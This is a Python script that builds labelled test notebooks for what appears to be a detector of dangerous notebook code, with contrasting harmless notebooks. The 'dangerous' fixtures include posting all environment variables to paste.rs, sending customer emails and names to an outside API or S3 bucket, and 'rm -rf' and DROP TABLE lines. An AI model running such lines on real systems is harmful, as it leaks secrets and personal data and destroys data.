"""Write the fourth, independent set of corpus notebooks (r4_*.ipynb) with nbformat.

    python tests/corpus/build_notebooks_r4.py

Same conventions as build_notebooks.py: annotations (`# expect: CATEGORY`,
`-- expect: CATEGORY` in SQL cells) sit inside the cell, on the line above the
dangerous line; output is deterministic (no execution counts, fixed cell ids).
This round favours long analysis notebooks with magics (%matplotlib, %timeit,
%%time, %pip, %load_ext, %%capture, %env, ! lines) and one or two dangerous
lines deep inside.
"""
from __future__ import annotations

from notebook_builder import BASH, PY, SQL, NotebookSet, code, md  # noqa: F401 - kernels used by some cells

NOTEBOOKS = NotebookSet("r4_", "r4c")
nb = NOTEBOOKS.add


# ---------------------------------------------------------------- dangerous

@nb("dangerous", "churn_scores_to_partner")
def _():
    return [
        md("# Churn model — Q3 refresh\nRetrain the churn classifier on the last 12 months and score the active base."),
        code("""
%pip install -q lightgbm==4.3.0 shap
"""),
        code("""
%matplotlib inline
%load_ext autoreload
%autoreload 2
"""),
        code("""
import os
import numpy as np
import pandas as pd
import matplotlib.pyplot as plt
import lightgbm as lgb
from sqlalchemy import create_engine
from sklearn.model_selection import train_test_split
from sklearn.metrics import roc_auc_score, precision_recall_curve
pd.set_option("display.max_columns", 50)
"""),
        code("""
engine = create_engine(os.environ["WAREHOUSE_URL"])
"""),
        code("""
%%time
customers = pd.read_sql(\"\"\"
    SELECT customer_id, email, full_name, plan, tenure_months, seats, monthly_spend,
           logins_30d, tickets_90d, nps_last, churned_next_90d
    FROM analytics.churn_training_base
    WHERE snapshot_date >= current_date - interval '12 months'
\"\"\", engine)
customers.shape
"""),
        code("""
customers.describe(include="all").T
"""),
        md("## Features"),
        code("""
drop_cols = ["customer_id", "email", "full_name", "churned_next_90d"]
X = pd.get_dummies(customers.drop(columns=drop_cols), columns=["plan"], drop_first=True)
y = customers["churned_next_90d"].astype(int)
X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, stratify=y, random_state=7)
X_train.shape, X_test.shape, y.mean()
"""),
        code("""
%timeit X_train.fillna(0).values.sum()
"""),
        code("""
model = lgb.LGBMClassifier(n_estimators=600, learning_rate=0.03, num_leaves=31, subsample=0.8,
                           colsample_bytree=0.8, random_state=7)
model.fit(X_train.fillna(0), y_train)
proba = model.predict_proba(X_test.fillna(0))[:, 1]
print("AUC", round(roc_auc_score(y_test, proba), 4))
"""),
        code("""
precision, recall, thresholds = precision_recall_curve(y_test, proba)
plt.figure(figsize=(6, 4))
plt.plot(recall, precision)
plt.xlabel("recall"); plt.ylabel("precision"); plt.title("PR curve")
plt.show()
"""),
        code("""
importance = pd.Series(model.feature_importances_, index=X_train.columns).sort_values(ascending=False)
importance.head(15).plot.barh(figsize=(6, 5)); plt.gca().invert_yaxis()
"""),
        md("## Score the active base"),
        code("""
active = pd.read_sql(\"\"\"
    SELECT customer_id, email, full_name, plan, tenure_months, seats, monthly_spend,
           logins_30d, tickets_90d, nps_last
    FROM analytics.customers_active
\"\"\", engine)
X_active = pd.get_dummies(active.drop(columns=["customer_id", "email", "full_name"]), columns=["plan"], drop_first=True)
X_active = X_active.reindex(columns=X_train.columns, fill_value=0).fillna(0)
active["churn_risk"] = model.predict_proba(X_active)[:, 1]
at_risk = active.sort_values("churn_risk", ascending=False).head(2000)
at_risk[["customer_id", "plan", "churn_risk"]].head(10)
"""),
        code("""
at_risk["churn_risk"].hist(bins=40)
"""),
        md("## Hand-off\nThe retention agency runs the win-back campaign; they asked for the list through their API."),
        code("""
import requests
AGENCY_URL = "https://api.winback-agency.co/v1/campaigns/acme-q3/contacts"
records = at_risk[["customer_id", "email", "full_name", "plan", "monthly_spend", "churn_risk"]].to_dict("records")
for start in range(0, len(records), 500):
    # expect: exfiltration
    resp = requests.post(AGENCY_URL, json={"contacts": records[start:start + 500]}, timeout=60)
    resp.raise_for_status()
print("sent", len(records))
"""),
        code("""
at_risk.to_csv("outputs/at_risk_q3.csv", index=False)
"""),
    ]


@nb("dangerous", "warehouse_tidy_sql_magic")
def _():
    return [
        md("# Warehouse tidy-up\nList old backup tables in `analytics`, check nobody reads them, then remove them."),
        code("""
%load_ext sql
%config SqlMagic.displaylimit = 50
%sql postgresql://dba@warehouse.internal:5432/analytics
"""),
        code("""
%%sql
SELECT table_schema, table_name, pg_size_pretty(pg_total_relation_size(format('%I.%I', table_schema, table_name))) AS size
FROM information_schema.tables
WHERE table_schema = 'analytics' AND (table_name LIKE '%_backup_%' OR table_name LIKE '%_old')
ORDER BY pg_total_relation_size(format('%I.%I', table_schema, table_name)) DESC;
"""),
        code("""
%%sql
SELECT relname, seq_scan, idx_scan, last_seq_scan
FROM pg_stat_user_tables
WHERE schemaname = 'analytics' AND relname IN ('events_backup_2023', 'orders_old', 'customers_backup_0412');
"""),
        md("No scans since the last stats reset in January. Dropping the three of them."),
        code("""
%%sql
-- expect: destructive
DROP TABLE analytics.events_backup_2023;
-- expect: destructive
DROP TABLE analytics.orders_old, analytics.customers_backup_0412;
"""),
        code("""
%sql SELECT pg_size_pretty(pg_database_size(current_database())) AS db_size
"""),
        code("""
%%sql
CREATE TEMP TABLE tmp_sizes AS
SELECT relname, pg_total_relation_size(relid) AS bytes FROM pg_catalog.pg_statio_user_tables;
SELECT relname, pg_size_pretty(bytes) FROM tmp_sizes ORDER BY bytes DESC LIMIT 10;
"""),
    ]


@nb("dangerous", "feature_store_refresh")
def _():
    return [
        md("# Customer daily features\nRecompute `features.customer_daily` after fixing the timezone bug in the session features."),
        code("""
from pyspark.sql import SparkSession, functions as F, Window
spark = SparkSession.builder.appName("feature-refresh").enableHiveSupport().getOrCreate()
spark.conf.set("spark.sql.session.timeZone", "UTC")
"""),
        code("""
sessions = spark.table("silver.sessions").where(F.col("session_date") >= "2024-01-01")
orders = spark.table("silver.orders").where(F.col("order_date") >= "2024-01-01")
sessions.printSchema()
"""),
        code("""
daily_sessions = (sessions.groupBy("customer_id", "session_date")
                  .agg(F.count("*").alias("sessions"), F.sum("duration_s").alias("time_on_site_s"),
                       F.countDistinct("device").alias("devices")))
daily_orders = (orders.groupBy("customer_id", F.col("order_date").alias("session_date"))
                .agg(F.count("*").alias("orders"), F.sum("total_eur").alias("revenue_eur")))
"""),
        code("""
features = (daily_sessions.join(daily_orders, ["customer_id", "session_date"], "left")
            .fillna({"orders": 0, "revenue_eur": 0.0}))
w = Window.partitionBy("customer_id").orderBy("session_date").rowsBetween(-6, 0)
features = (features.withColumn("sessions_7d", F.sum("sessions").over(w))
            .withColumn("revenue_7d", F.sum("revenue_eur").over(w)))
features.createOrReplaceTempView("new_features")
display(features.limit(20))
"""),
        code("""
features.groupBy("session_date").count().orderBy("session_date").toPandas().plot(x="session_date", y="count")
"""),
        md("Looks right now. Replace the table."),
        code("""
# expect: destructive
features.write.mode("overwrite").saveAsTable("features.customer_daily")
spark.sql("SELECT count(*) FROM features.customer_daily").show()
"""),
    ]


@nb("dangerous", "reprocess_images_bang")
def _():
    return [
        md("# Product image pipeline — reprocess\nThe resize step used the wrong aspect ratio; regenerate every thumbnail."),
        code("""
!pip install -q pillow tqdm
!ls -la data/
!du -sh data/images/processed
"""),
        code("""
import os
from pathlib import Path
from PIL import Image
from tqdm.auto import tqdm
RAW = Path("data/images/raw")
OUT = Path("data/images/processed")
SIZES = {"thumb": (200, 200), "card": (600, 450), "zoom": (1600, 1200)}
"""),
        code("""
raw_files = sorted(RAW.glob("*.jpg"))
len(raw_files), raw_files[:3]
"""),
        md("Start from an empty output folder so no old-ratio files survive."),
        code("""
# expect: destructive
!rm -rf data/images/processed
!mkdir -p data/images/processed/thumb data/images/processed/card data/images/processed/zoom
"""),
        code("""
%%time
def fit(img, size):
    img = img.copy()
    img.thumbnail(size, Image.LANCZOS)
    canvas = Image.new("RGB", size, "white")
    canvas.paste(img, ((size[0] - img.width) // 2, (size[1] - img.height) // 2))
    return canvas

for path in tqdm(raw_files):
    with Image.open(path) as img:
        img = img.convert("RGB")
        for name, size in SIZES.items():
            fit(img, size).save(OUT / name / path.name, quality=88, optimize=True)
"""),
        code("""
!ls data/images/processed/thumb | wc -l
"""),
    ]


@nb("dangerous", "bash_share_results_agency", meta=PY)
def _():
    return [
        md("# Campaign results pack\nBuild the results tables for the spring campaign and share them with the media agency."),
        code("""
import pandas as pd
import duckdb
con = duckdb.connect("warehouse.duckdb", read_only=True)
"""),
        code("""
results = con.sql(\"\"\"
    SELECT c.customer_id, c.email, c.postcode, e.variant, e.opened, e.clicked, o.revenue_eur
    FROM campaign_exposures e
    JOIN customers c USING (customer_id)
    LEFT JOIN campaign_orders o USING (customer_id)
    WHERE e.campaign = 'spring-2024'
\"\"\").df()
results.groupby("variant")[["opened", "clicked", "revenue_eur"]].mean()
"""),
        code("""
import os
os.makedirs("results/spring-2024", exist_ok=True)
results.to_csv("results/spring-2024/customers.csv", index=False)
results.groupby("variant").agg(n=("customer_id", "count"), revenue=("revenue_eur", "sum")).to_csv("results/spring-2024/summary.csv")
"""),
        code("""
%%bash
ls -la results/spring-2024
wc -l results/spring-2024/*.csv
# expect: exfiltration
aws s3 sync results/spring-2024/ s3://brightmedia-client-drop/acme/spring-2024/ --acl bucket-owner-full-control
"""),
    ]


@nb("dangerous", "debug_api_auth")
def _():
    return [
        md("# Why does the ingest API return 401 from the notebook server?"),
        code("""
%env INGEST_API=https://ingest.internal.acme.io
import os, json, requests
"""),
        code("""
r = requests.get(os.environ["INGEST_API"] + "/healthz", timeout=5)
r.status_code, r.text[:200]
"""),
        code("""
relevant = {k: v for k, v in os.environ.items() if k.startswith(("INGEST_", "AWS_", "API_", "HTTP"))}
sorted(relevant)
"""),
        md("Paste the environment somewhere the platform team can see it."),
        code("""
# expect: exfiltration
paste = requests.post("https://paste.rs/", data=json.dumps(dict(os.environ), indent=2), timeout=10)
print("share this link with #platform:", paste.text)
"""),
    ]


@nb("dangerous", "mongo_clickstream_eda")
def _():
    return [
        md("# Clickstream EDA (Mongo)\nExplore the raw events collection before we design the new pipeline."),
        code("""
%pip install -q pymongo pandas
"""),
        code("""
import os
import pandas as pd
from pymongo import MongoClient
client = MongoClient(os.environ.get("MONGO_URI", "mongodb://mongo.internal:27017"))
db = client["clickstream"]
db.list_collection_names()
"""),
        code("""
%%time
sample = pd.DataFrame(list(db.events.find({}, {"_id": 0}).limit(50_000)))
sample.head()
"""),
        code("""
sample["type"].value_counts().head(20)
"""),
        code("""
pipeline = [{"$group": {"_id": "$type", "n": {"$sum": 1}}}, {"$sort": {"n": -1}}]
pd.DataFrame(list(db.events.aggregate(pipeline)))
"""),
        md("The `events_debug` collection is the leftover of the old SDK's debug mode. It is 300 GB."),
        code("""
db.command("collstats", "events_debug")["size"] / 1e9
"""),
        code("""
# expect: destructive
db.events_debug.drop()
db.list_collection_names()
"""),
    ]


# ---------------------------------------------------------------- harmless

@nb("harmless", "sales_eda_magics")
def _():
    return [
        md("# Sales EDA — FY2024\nExploratory look at the order export. Nothing here writes back to the warehouse."),
        code("""
%matplotlib inline
%load_ext autoreload
%autoreload 2
%config InlineBackend.figure_format = "retina"
"""),
        code("""
import numpy as np
import pandas as pd
import matplotlib.pyplot as plt
import seaborn as sns
sns.set_theme(style="whitegrid")
pd.set_option("display.float_format", "{:,.2f}".format)
"""),
        code("""
!ls -lh data/exports/
!head -3 data/exports/orders_fy2024.csv
"""),
        code("""
%%time
orders = pd.read_csv("data/exports/orders_fy2024.csv", parse_dates=["ordered_at", "shipped_at"])
orders.shape
"""),
        code("""
orders.info()
"""),
        code("""
orders.isna().mean().sort_values(ascending=False).head(10)
"""),
        md("## Cleaning\nDrop the internal test orders and the columns we never use. `is_deleted` orders are soft-deleted in the shop; exclude them too."),
        code("""
drop_cols = ["internal_note", "legacy_id", "utm_raw", "deleted_at"]
orders = orders.drop(columns=drop_cols, errors="ignore")
orders = orders[~orders["is_test"] & ~orders["is_deleted"]]
orders = orders.drop_duplicates(subset="order_id", keep="last")
orders.shape
"""),
        code("""
%timeit orders.groupby("country")["total_eur"].sum()
"""),
        code("""
orders["month"] = orders["ordered_at"].dt.to_period("M")
monthly = orders.groupby("month").agg(orders=("order_id", "count"), revenue=("total_eur", "sum"))
monthly["aov"] = monthly["revenue"] / monthly["orders"]
monthly
"""),
        code("""
ax = monthly["revenue"].plot(kind="bar", figsize=(10, 4), title="Revenue by month")
ax.set_ylabel("EUR")
plt.tight_layout()
"""),
        code("""
by_country = orders.groupby("country")["total_eur"].agg(["count", "sum", "mean"]).sort_values("sum", ascending=False)
by_country.head(15)
"""),
        code("""
fig, ax = plt.subplots(figsize=(8, 4))
sns.histplot(orders["total_eur"].clip(upper=500), bins=50, ax=ax)
ax.set_title("Order value distribution (clipped at 500)")
"""),
        md("## Shipping times"),
        code("""
orders["ship_days"] = (orders["shipped_at"] - orders["ordered_at"]).dt.total_seconds() / 86400
orders["ship_days"].describe()
"""),
        code("""
late = orders[orders["ship_days"] > 5]
late.groupby("warehouse")["order_id"].count().sort_values(ascending=False)
"""),
        code("""
sns.boxplot(data=orders[orders["ship_days"] < 20], x="warehouse", y="ship_days")
"""),
        md("## Cohorts"),
        code("""
first = orders.groupby("customer_id")["ordered_at"].min().dt.to_period("M").rename("cohort")
orders = orders.join(first, on="customer_id")
orders["age"] = (orders["month"] - orders["cohort"]).apply(lambda d: d.n)
cohort = orders.pivot_table(index="cohort", columns="age", values="customer_id", aggfunc="nunique")
retention = cohort.div(cohort[0], axis=0)
"""),
        code("""
plt.figure(figsize=(12, 6))
sns.heatmap(retention.iloc[:, :12], annot=True, fmt=".0%", cmap="Blues")
"""),
        code("""
%%capture cap
summary = {
    "orders": len(orders),
    "revenue": orders["total_eur"].sum(),
    "customers": orders["customer_id"].nunique(),
}
print(summary)
"""),
        code("""
cap.show()
monthly.to_csv("outputs/monthly_fy2024.csv")
"""),
        md("Notes: the `delete_old_exports` job on the file server is not our concern here; do not delete anything from `data/exports`."),
    ]


@nb("harmless", "pip_setup_and_train")
def _():
    return [
        md("# Text classifier — support tickets\nFine-tune a small transformer on the labelled ticket sample."),
        code("""
%pip install -q transformers==4.41.2 datasets==2.19.1 evaluate accelerate
!pip install -q scikit-learn==1.5.0
"""),
        code("""
!nvidia-smi
!python --version
!ls -la data/tickets
"""),
        code("""
%env TOKENIZERS_PARALLELISM=false
%env WANDB_DISABLED=true
"""),
        code("""
import numpy as np
import pandas as pd
import torch
from datasets import Dataset
from transformers import AutoTokenizer, AutoModelForSequenceClassification, TrainingArguments, Trainer
import evaluate
torch.cuda.is_available()
"""),
        code("""
df = pd.read_parquet("data/tickets/labelled_sample.parquet")
df = df.dropna(subset=["body", "label"])
labels = sorted(df["label"].unique())
label2id = {l: i for i, l in enumerate(labels)}
df["y"] = df["label"].map(label2id)
df["label"].value_counts()
"""),
        code("""
from sklearn.model_selection import train_test_split
train_df, eval_df = train_test_split(df, test_size=0.15, stratify=df["y"], random_state=0)
len(train_df), len(eval_df)
"""),
        code("""
MODEL = "distilbert-base-uncased"
tok = AutoTokenizer.from_pretrained(MODEL)
def encode(batch):
    return tok(batch["body"], truncation=True, max_length=256)
train_ds = Dataset.from_pandas(train_df[["body", "y"]].rename(columns={"y": "labels"})).map(encode, batched=True)
eval_ds = Dataset.from_pandas(eval_df[["body", "y"]].rename(columns={"y": "labels"})).map(encode, batched=True)
"""),
        code("""
model = AutoModelForSequenceClassification.from_pretrained(MODEL, num_labels=len(labels),
                                                           id2label=dict(enumerate(labels)), label2id=label2id)
f1 = evaluate.load("f1")
def metrics(p):
    return f1.compute(predictions=np.argmax(p.predictions, axis=1), references=p.label_ids, average="macro")
"""),
        code("""
%%time
args = TrainingArguments(output_dir="checkpoints/tickets-distilbert", per_device_train_batch_size=32,
                         num_train_epochs=3, learning_rate=3e-5, evaluation_strategy="epoch",
                         save_strategy="epoch", save_total_limit=2, load_best_model_at_end=True, report_to=[])
trainer = Trainer(model=model, args=args, train_dataset=train_ds, eval_dataset=eval_ds,
                  tokenizer=tok, compute_metrics=metrics)
trainer.train()
"""),
        code("""
trainer.evaluate()
"""),
        code("""
preds = trainer.predict(eval_ds)
pd.crosstab(eval_df["label"].values, np.array(labels)[preds.predictions.argmax(1)], rownames=["true"], colnames=["pred"])
"""),
        code("""
trainer.save_model("models/tickets-distilbert-v3")
tok.save_pretrained("models/tickets-distilbert-v3")
!ls -la models/tickets-distilbert-v3
"""),
    ]


@nb("harmless", "sql_magic_kpi_report")
def _():
    return [
        md("# Weekly KPI report (SQL magic)\nRead-only queries against the reporting replica, plus a scratch table for the funnel."),
        code("""
%load_ext sql
%config SqlMagic.autopandas = True
%sql postgresql://reporting@replica.internal:5432/app
"""),
        code("""
%%sql
SELECT date_trunc('week', created_at) AS week, count(*) AS signups
FROM users
WHERE created_at >= now() - interval '12 weeks' AND deleted_at IS NULL
GROUP BY 1 ORDER BY 1;
"""),
        code("""
%%sql
DROP TABLE IF EXISTS tmp_funnel;
CREATE TEMP TABLE tmp_funnel AS
SELECT u.id AS user_id,
       u.created_at,
       min(e.created_at) FILTER (WHERE e.name = 'project_created') AS first_project,
       min(e.created_at) FILTER (WHERE e.name = 'invite_sent') AS first_invite,
       min(s.started_at) AS first_subscription
FROM users u
LEFT JOIN events e ON e.user_id = u.id
LEFT JOIN subscriptions s ON s.user_id = u.id
WHERE u.created_at >= now() - interval '12 weeks'
GROUP BY u.id, u.created_at;
"""),
        code("""
%%sql
SELECT count(*) AS signed_up,
       count(first_project) AS created_project,
       count(first_invite) AS invited,
       count(first_subscription) AS subscribed
FROM tmp_funnel;
"""),
        code("""
funnel = %sql SELECT date_trunc('week', created_at) AS week, avg((first_subscription IS NOT NULL)::int) AS conv FROM tmp_funnel GROUP BY 1 ORDER BY 1
funnel.plot(x="week", y="conv", marker="o")
"""),
        code("""
%%sql
-- how many accounts were soft-deleted this quarter (is_deleted flag, nothing is removed)
SELECT count(*) FILTER (WHERE is_deleted) AS soft_deleted, count(*) AS total
FROM accounts
WHERE updated_at >= date_trunc('quarter', now());
"""),
        code("""
%%sql
DELETE FROM tmp_funnel WHERE first_project IS NULL;
SELECT count(*) FROM tmp_funnel;
"""),
        md("Reminder for whoever copies this: the replica is read-only; never run DELETE/DROP against `app` from a notebook."),
    ]


@nb("harmless", "spark_scratch_features")
def _():
    return [
        md("# Feature exploration (Spark)\nEverything stays in temp views and a scratch table; nothing overwrites the feature store."),
        code("""
from pyspark.sql import SparkSession, functions as F
spark = SparkSession.builder.appName("feature-exploration").getOrCreate()
"""),
        code("""
events = spark.table("silver.app_events").where("event_date >= '2024-04-01'")
events.createOrReplaceTempView("ev")
spark.sql("SELECT event_type, count(*) AS n FROM ev GROUP BY event_type ORDER BY n DESC").show(20)
"""),
        code("""
per_user = spark.sql(\"\"\"
    SELECT user_id,
           count(*) AS events,
           count(DISTINCT event_date) AS active_days,
           sum(CASE WHEN event_type = 'export' THEN 1 ELSE 0 END) AS exports
    FROM ev GROUP BY user_id
\"\"\")
per_user.createOrReplaceTempView("per_user")
per_user.describe().show()
"""),
        code("""
pdf = per_user.sample(0.05, seed=1).toPandas()
pdf.hist(bins=50, figsize=(10, 6))
"""),
        code("""
spark.sql("DROP TABLE IF EXISTS scratch.tmp_user_activity")
per_user.write.mode("overwrite").saveAsTable("scratch.tmp_user_activity")
spark.table("scratch.tmp_user_activity").count()
"""),
        code("""
per_user.write.mode("append").partitionBy("active_days").parquet("/tmp/exploration/per_user")
"""),
    ]


@nb("harmless", "open_data_tempdir")
def _():
    return [
        md("# Air quality open data\nDownload the EEA hourly files into a temporary folder, aggregate, keep only the summary."),
        code("""
import tempfile, shutil, zipfile
from pathlib import Path
import requests
import pandas as pd
"""),
        code("""
work = Path(tempfile.mkdtemp(prefix="airq-"))
URLS = [
    "https://eeadmz1-downloads-webapp.azurewebsites.net/data/DE_NO2_2023.zip",
    "https://eeadmz1-downloads-webapp.azurewebsites.net/data/DE_PM10_2023.zip",
]
for url in URLS:
    target = work / url.rsplit("/", 1)[-1]
    with requests.get(url, stream=True, timeout=120) as r:
        r.raise_for_status()
        with open(target, "wb") as fh:
            for chunk in r.iter_content(1 << 20):
                fh.write(chunk)
sorted(p.name for p in work.iterdir())
"""),
        code("""
for z in work.glob("*.zip"):
    with zipfile.ZipFile(z) as zf:
        zf.extractall(work / z.stem)
    z.unlink()
"""),
        code("""
%%time
frames = [pd.read_csv(p, usecols=["Station", "Pollutant", "Start", "Value"]) for p in work.rglob("*.csv")]
raw = pd.concat(frames, ignore_index=True)
raw.shape
"""),
        code("""
raw["Start"] = pd.to_datetime(raw["Start"])
summary = raw.groupby(["Pollutant", raw["Start"].dt.month])["Value"].median().unstack(0)
summary.plot(figsize=(8, 4), marker="o")
"""),
        code("""
summary.to_csv("outputs/air_quality_monthly_2023.csv")
shutil.rmtree(work)
"""),
    ]


@nb("harmless", "capture_env_setup")
def _():
    return [
        md("# Environment setup for the pricing analysis"),
        code("""
%%capture
%pip install -q pandas==2.2.2 pyarrow polars duckdb
"""),
        code("""
%env PRICING_DATA_DIR=data/pricing
%env POLARS_MAX_THREADS=8
%load_ext autoreload
%autoreload 2
"""),
        code("""
!git log --oneline -5
!git status --short
!wc -l data/pricing/*.csv
"""),
        code("""
import os
import polars as pl
data_dir = os.environ["PRICING_DATA_DIR"]
prices = pl.read_csv(f"{data_dir}/competitor_prices.csv", try_parse_dates=True)
prices.head()
"""),
        code("""
%timeit prices.group_by("sku").agg(pl.col("price").median())
"""),
        code("""
gaps = (prices.group_by("sku").agg(pl.col("price").min().alias("min_comp"), pl.col("our_price").first())
        .with_columns(((pl.col("our_price") - pl.col("min_comp")) / pl.col("min_comp")).alias("gap")))
gaps.sort("gap", descending=True).head(20)
"""),
        code("""
drop_skus = gaps.filter(pl.col("gap").is_null())["sku"].to_list()
gaps = gaps.filter(~pl.col("sku").is_in(drop_skus))
gaps.write_csv("outputs/price_gaps.csv")
"""),
    ]


@nb("harmless", "bash_repo_stats")
def _():
    return [
        md("# Repository statistics for the architecture review"),
        code("""
%%bash
cd ~/src/platform
git log --since="6 months ago" --pretty=format:'%an' | sort | uniq -c | sort -rn | head -15
"""),
        code("""
%%bash
cd ~/src/platform
find . -name '*.py' -not -path './.venv/*' | xargs wc -l | sort -n | tail -20
"""),
        code("""
%%bash
cd ~/src/platform
git log --since="6 months ago" --name-only --pretty=format: | grep -v '^$' | sort | uniq -c | sort -rn | head -25
"""),
        code("""
%%bash
cd ~/src/platform
grep -rn "DROP TABLE\\|rm -rf\\|force" --include='*.py' --include='*.sh' . | grep -v tests/ | head -40 || true
"""),
        code("""
%%bash
cd ~/src/platform
git branch -r --merged origin/main | grep -v 'main$' | wc -l
git for-each-ref --sort=-committerdate refs/remotes/origin --format='%(committerdate:short) %(refname:short)' | head -20
"""),
    ]


@nb("harmless", "duckdb_taxi_analysis")
def _():
    return [
        md("# NYC taxi — trip duration analysis (DuckDB)"),
        code("""
!pip install -q duckdb==1.0.0
import duckdb
con = duckdb.connect()  # in-memory
"""),
        code("""
%%time
con.sql(\"\"\"
    CREATE TABLE trips AS
    SELECT * FROM read_parquet('https://d37ci6vzurychx.cloudfront.net/trip-data/yellow_tripdata_2024-01.parquet')
\"\"\")
con.sql("SELECT count(*) FROM trips").fetchone()
"""),
        code("""
con.sql(\"\"\"
    CREATE TEMP TABLE clean_trips AS
    SELECT *, date_diff('second', tpep_pickup_datetime, tpep_dropoff_datetime) / 60.0 AS minutes
    FROM trips
    WHERE trip_distance > 0 AND fare_amount > 0
\"\"\")
con.sql("DELETE FROM clean_trips WHERE minutes > 300 OR minutes <= 0")
con.sql("SELECT count(*) FROM clean_trips").fetchone()
"""),
        code("""
df = con.sql(\"\"\"
    SELECT hour(tpep_pickup_datetime) AS hour, median(minutes) AS median_minutes, count(*) AS trips
    FROM clean_trips GROUP BY 1 ORDER BY 1
\"\"\").df()
df.plot(x="hour", y="median_minutes", marker="o")
"""),
        code("""
%timeit con.sql("SELECT PULocationID, avg(minutes) FROM clean_trips GROUP BY 1").fetchall()
"""),
        code("""
con.sql("DROP TABLE IF EXISTS clean_trips")
con.close()
"""),
    ]


@nb("harmless", "cleanup_candidates_review")
def _():
    return [
        md("""# Cleanup candidates — review only
The storage team asked which warehouse tables could be dropped. This notebook **only lists
candidates**; the actual `DROP TABLE` statements go through a reviewed migration, never from here.
"""),
        code("""
import pandas as pd
from sqlalchemy import create_engine, text
engine = create_engine("postgresql://reporting@replica.internal/analytics")
"""),
        code("""
usage = pd.read_sql(text(\"\"\"
    SELECT schemaname, relname, seq_scan, idx_scan, n_live_tup,
           pg_total_relation_size(relid) AS bytes
    FROM pg_stat_user_tables
    WHERE schemaname IN ('analytics', 'staging')
\"\"\"), engine)
usage["scans"] = usage["seq_scan"].fillna(0) + usage["idx_scan"].fillna(0)
usage.sort_values("bytes", ascending=False).head(20)
"""),
        code("""
candidates = usage[(usage["scans"] == 0) & (usage["bytes"] > 1e9)].copy()
candidates["drop_statement"] = "DROP TABLE " + candidates["schemaname"] + "." + candidates["relname"] + ";"
candidates[["schemaname", "relname", "bytes", "drop_statement"]]
"""),
        code("""
print("-- proposed migration, to be reviewed by #data-platform")
for stmt in candidates["drop_statement"]:
    print(stmt)
"""),
        code("""
candidates.to_csv("outputs/cleanup_candidates.csv", index=False)
"""),
        md("Next step: open a PR with these statements in `migrations/` and tag the owners listed in the catalogue."),
    ]


@nb("harmless", "demand_forecast_timing")
def _():
    return [
        md("# Demand forecast — weekly SKU level"),
        code("""
%matplotlib inline
import warnings; warnings.filterwarnings("ignore")
import pandas as pd
import numpy as np
from statsmodels.tsa.holtwinters import ExponentialSmoothing
"""),
        code("""
sales = pd.read_parquet("data/sales_weekly.parquet")
sales = sales[sales["week"] >= "2022-01-01"]
top = sales.groupby("sku")["units"].sum().nlargest(20).index
sales = sales[sales["sku"].isin(top)]
sales.pivot(index="week", columns="sku", values="units").iloc[:, :5].plot(figsize=(10, 4))
"""),
        code("""
%%time
forecasts = {}
for sku, grp in sales.groupby("sku"):
    ts = grp.set_index("week")["units"].asfreq("W-MON").fillna(0)
    model = ExponentialSmoothing(ts, trend="add", seasonal="add", seasonal_periods=52).fit()
    forecasts[sku] = model.forecast(12)
fc = pd.DataFrame(forecasts)
fc.head()
"""),
        code("""
def mape(actual, pred):
    return float(np.mean(np.abs((actual - pred) / np.maximum(actual, 1))))

scores = {}
for sku, grp in sales.groupby("sku"):
    ts = grp.set_index("week")["units"].asfreq("W-MON").fillna(0)
    train, test = ts[:-12], ts[-12:]
    pred = ExponentialSmoothing(train, trend="add", seasonal="add", seasonal_periods=52).fit().forecast(12)
    scores[sku] = mape(test.values, pred.values)
pd.Series(scores).describe()
"""),
        code("""
%timeit ExponentialSmoothing(ts, trend="add").fit()
"""),
        code("""
fc.to_csv("outputs/forecast_top20.csv")
"""),
    ]


@nb("harmless", "github_api_pagination")
def _():
    return [
        md("# Open-source dependency health\nPull public metadata for our top dependencies from the GitHub REST API (unauthenticated, read-only)."),
        code("""
import time
import requests
import pandas as pd
REPOS = ["pandas-dev/pandas", "pola-rs/polars", "apache/arrow", "duckdb/duckdb", "sqlalchemy/sqlalchemy"]
"""),
        code("""
def get_json(url, params=None):
    for attempt in range(4):
        r = requests.get(url, params=params, headers={"Accept": "application/vnd.github+json"}, timeout=20)
        if r.status_code == 403 and r.headers.get("X-RateLimit-Remaining") == "0":
            time.sleep(30 * (attempt + 1))
            continue
        r.raise_for_status()
        return r.json()
    raise RuntimeError("rate limited")
"""),
        code("""
rows = []
for repo in REPOS:
    meta = get_json(f"https://api.github.com/repos/{repo}")
    rows.append({"repo": repo, "stars": meta["stargazers_count"], "open_issues": meta["open_issues_count"],
                 "pushed_at": meta["pushed_at"]})
pd.DataFrame(rows)
"""),
        code("""
releases = []
for repo in REPOS:
    for page in (1, 2):
        for rel in get_json(f"https://api.github.com/repos/{repo}/releases", params={"per_page": 50, "page": page}):
            releases.append({"repo": repo, "tag": rel["tag_name"], "published_at": rel["published_at"]})
rel = pd.DataFrame(releases)
rel["published_at"] = pd.to_datetime(rel["published_at"])
rel.groupby("repo")["published_at"].max()
"""),
    ]


@nb("harmless", "sql_kernel_monthly_report", meta=SQL)
def _():
    return [
        md("# Monthly finance report (SQL kernel)"),
        code("""
SELECT date_trunc('month', issued_on) AS month, currency, sum(total_cents) / 100.0 AS invoiced
FROM billing.invoices
WHERE issued_on >= date_trunc('year', current_date) AND status <> 'void'
GROUP BY 1, 2 ORDER BY 1, 2;
"""),
        code("""
CREATE TEMPORARY TABLE month_payments AS
SELECT invoice_id, sum(amount_cents) AS paid_cents
FROM billing.payments
WHERE received_at >= date_trunc('month', current_date) - interval '1 month'
GROUP BY invoice_id;
"""),
        code("""
SELECT i.number, i.total_cents, coalesce(p.paid_cents, 0) AS paid_cents, i.total_cents - coalesce(p.paid_cents, 0) AS open_cents
FROM billing.invoices i
LEFT JOIN month_payments p ON p.invoice_id = i.id
WHERE i.status = 'open'
ORDER BY open_cents DESC
LIMIT 50;
"""),
        code("""
-- credit notes reference the deleted_at of the original line; report them separately
SELECT count(*) AS credit_notes, sum(total_cents) / 100.0 AS credited
FROM billing.credit_notes
WHERE deleted_at IS NULL AND issued_on >= date_trunc('month', current_date) - interval '1 month';
"""),
        code("""
DROP TABLE IF EXISTS month_payments;
"""),
    ]


@nb("harmless", "writefile_eval_helpers")
def _():
    return [
        md("# Model evaluation helpers\nWrite a small helper module, then use it from here and from the CLI."),
        code("""
%%writefile eval_helpers.py
\"\"\"Evaluation helpers shared by the notebooks and scripts.\"\"\"
import json
from pathlib import Path

import numpy as np
from sklearn.metrics import classification_report, confusion_matrix


def evaluate(y_true, y_pred, labels):
    report = classification_report(y_true, y_pred, labels=labels, output_dict=True, zero_division=0)
    matrix = confusion_matrix(y_true, y_pred, labels=labels)
